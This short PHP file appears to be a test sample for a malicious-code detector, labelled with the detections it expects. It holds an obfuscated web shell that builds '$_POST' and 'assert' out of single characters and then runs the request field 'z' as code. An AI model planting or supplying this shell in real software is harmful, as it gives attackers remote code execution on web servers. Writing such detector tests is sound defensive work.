<?php
// Characters picked by index out of a literal, then upper-cased: $_POST
// named by ${…} and assert called by a built name.
// want: php_request_code_exec php_hidden_function_name
$k = 'abcdefghijklmnopqrstuvwxyz_';
$g = strtoupper($k[26] . $k[15] . $k[14] . $k[18] . $k[19]);
$p = ${$g};
$e = $k[0] . $k[18] . $k[18] . $k[4] . $k[17] . $k[19];
$e($p['z']);
